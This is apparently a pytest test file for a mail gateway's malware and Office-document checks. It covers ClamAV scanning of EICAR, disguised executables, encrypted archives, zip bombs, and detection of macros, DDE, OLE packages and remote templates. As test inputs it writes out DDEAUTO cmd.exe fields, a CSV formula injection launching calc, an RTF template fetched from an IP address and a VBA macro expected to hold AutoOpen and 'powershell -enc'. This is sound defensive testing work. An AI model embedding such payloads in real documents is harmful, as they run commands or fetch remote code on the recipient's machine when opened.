"""Macros, ClamAV by its daemon, archives that bite: named, and never taken for clean."""

from __future__ import annotations

import io
import warnings

import pytest

from congvan_gateway.judgement.harmful import instream
from congvan_gateway.judgement.office_dangers import macros
from support.clamd import EICAR, MARKER, ClamdInstance
from support.process import free_port
from support_judgement import NAME, Bench, genuine, mail, page
from support_macros import compound, docx, package_object, vba_project, workbook_stream, zipped
from support_pki import LivePki


@pytest.mark.real("clamav")
def test_malware_is_named_and_what_was_not_scanned_is_never_clean(judge: Bench, pki: LivePki) -> None:
    with ClamdInstance() as clamd:
        address = f"{clamd.host}:{clamd.port}"
        found = judge(mail((NAME, genuine(pki)), ("x.zip", zipped({"a.txt": EICAR}))), clamd=address)
        assert "CONTENT-MALWARE" in found.codes
        assert found["decision"] == "refuse"
        assert "CONTENT-NOT-SCANNED" not in found.codes
        clean = judge(mail((NAME, genuine(pki))), clamd=address)
        assert not {"CONTENT-MALWARE", "CONTENT-NOT-SCANNED"} & clean.codes
        assert clean["decision"] == "accept"
        assert instream(address, b"x" + MARKER, timeout=20) is not None
        for name, data in (
            ("a.docx", docx(parts={"word/media/a.txt": EICAR})),
            ("a.zip", zipped({"b.zip": zipped({"c": EICAR})})),
        ):
            assert "CONTENT-MALWARE" in judge(mail((name, data)), clamd=address).codes, name
    away = judge(mail((NAME, genuine(pki))), clamd=f"127.0.0.1:{free_port()}")
    assert "CONTENT-NOT-SCANNED" in away.codes
    assert away["decision"] == "accept"


@pytest.mark.real("clamav")
def test_a_mail_too_long_for_the_daemon_is_not_scanned(judge: Bench) -> None:
    with ClamdInstance(stream_max=1_000_000) as clamd:
        found = judge(mail(("a.txt", b"van ban " * 400_000)), clamd=f"{clamd.host}:{clamd.port}", seconds=60.0)
        assert "CONTENT-NOT-SCANNED" in found.codes


def test_programs_are_recommended_for_refusal(judge: Bench) -> None:
    program = b"MZ" + b"\0" * 600
    for files in ([("bao-cao.pdf", program)], [("a.zip", zipped({"bao cao.pdf.exe": program}))]):
        found = judge(mail(*files))
        assert {"FORMAT-PROGRAM", "FORMAT-DISGUISED"} & found.codes
        assert found["decision"] == "refuse"


def test_an_encrypted_archive_is_held(judge: Bench) -> None:
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password="bi mat") as archive:
        archive.writef(io.BytesIO(page()), "a.pdf")
    found = judge(mail(("a.7z", out.getvalue())))
    assert "FORMAT-ARCHIVE-ENCRYPTED" in found.codes
    assert found["decision"] == "quarantine"


def test_a_bomb_is_stopped_and_held(judge: Bench) -> None:
    found = judge(mail(("a.zip", zipped({f"{n}.txt": b"\0" * (40 << 20) for n in range(6)}))))
    assert "FORMAT-ARCHIVE-LIMIT" in found.codes
    assert found["decision"] == "quarantine"


def test_a_file_without_macros_is_not_said_to_have_some(judge: Bench) -> None:
    assert macros(b"khong phai tep van phong", "a.doc") is None
    for name, data in (
        ("a.rtf", b"{\\rtf1 binh thuong}"),
        ("a.docx", docx(parts={"word/_rels/settings.xml.rels": LINK})),
        ("a.csv", "STT;Họ tên;Ghi chú\n1;An;=B2+C2\n2;Bình;- không|có\n".encode()),
    ):
        assert not DANGERS & judge(mail((name, data))).codes, name


LINK = (
    b'<Relationships><Relationship Id="1" TargetMode="External" Target="https://haiphong.gov.vn" Type='
    b'"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
)
DANGERS = {"CONTENT-MACRO", "CONTENT-DDE", "CONTENT-OLE-PACKAGE", "CONTENT-REMOTE-TEMPLATE"}


def test_the_hand_made_project_is_read_by_olevba() -> None:
    """The code itself comes out, so that what is found is found for the right reason."""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)  # the library's own use of its parser
        from oletools.olevba import VBA_Parser

    parser = VBA_Parser("vbaProject.bin", data=vba_project())
    try:
        assert parser.detect_vba_macros()
        (code,) = [text for _, _, _, text in parser.extract_macros()]
    finally:
        parser.close()
    assert "powershell -enc" in code
    assert {"AutoOpen", "Shell", "powershell"} <= set(macros(vba_project(), "a.doc") or ())


@pytest.mark.parametrize("part", ["word/vbaProject.bin", "word/media/image7.png", "customXml/item1.xml", "x"])
def test_a_vba_project_is_found_whatever_it_is_called(judge: Bench, part: str) -> None:
    found = judge(mail(("Bao cao.docx", docx(parts={part: vba_project()}))))
    assert "CONTENT-MACRO" in found.codes
    assert found["decision"] == "quarantine"


@pytest.mark.parametrize(
    ("code", "name", "data"),
    [
        ("CONTENT-MACRO", "a.xls", compound({"Workbook": workbook_stream()})),
        ("CONTENT-MACRO", "a.xlsx", docx(parts={"xl/macrosheets/sheet1.xml": b"<macrosheet/>"})),
        ("CONTENT-DDE", "a.docx", docx("<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe"
                                        "</w:instrText></w:r>")),
        ("CONTENT-DDE", "a.docx", docx('<w:fldSimple w:instr="DDEAUTO cmd"/>')),
        ("CONTENT-DDE", "a.xlsx", docx(parts={"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/>'})),
        ("CONTENT-DDE", "a.rtf", b"{\\rtf1{\\field{\\*\\fldinst {DDEAUTO c:\\\\cmd.exe}}}}"),
        ("CONTENT-OLE-PACKAGE", "a.docx", docx(parts={"word/embeddings/oleObject1.bin": package_object()})),
        ("CONTENT-OLE-PACKAGE", "a.rtf", b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105000002000000080000005061636b61676500}}}"),
        ("CONTENT-REMOTE-TEMPLATE", "a.docx", docx(parts={"word/_rels/settings.xml.rels": LINK.replace(b"hyperlink", b"attachedTemplate")})),
        ("CONTENT-REMOTE-TEMPLATE", "a.rtf", b"{\\rtf1{\\*\\template http://198.51.100.7/x.dotm}}"),
    ],
)  # fmt: skip
def test_what_a_file_does_when_it_is_opened(judge: Bench, code: str, name: str, data: bytes) -> None:
    for files in ([(name, data)], [("a.zip", zipped({name: data}))]):
        found = judge(mail(*files))
        assert code in found.codes, found["findings"]
        assert found["decision"] == "quarantine"


def test_a_table_that_calls_a_program_is_found_beside_the_document(judge: Bench, pki: LivePki) -> None:
    table = b"STT;Ten\n1;=cmd|'/c calc'!A0\n"
    for extra in (("a.csv", table), ("a.zip", zipped({"a.csv": table}))):
        found = judge(mail((NAME, genuine(pki)), extra))
        assert "CONTENT-DDE" in found.codes
        assert found["decision"] == "quarantine"
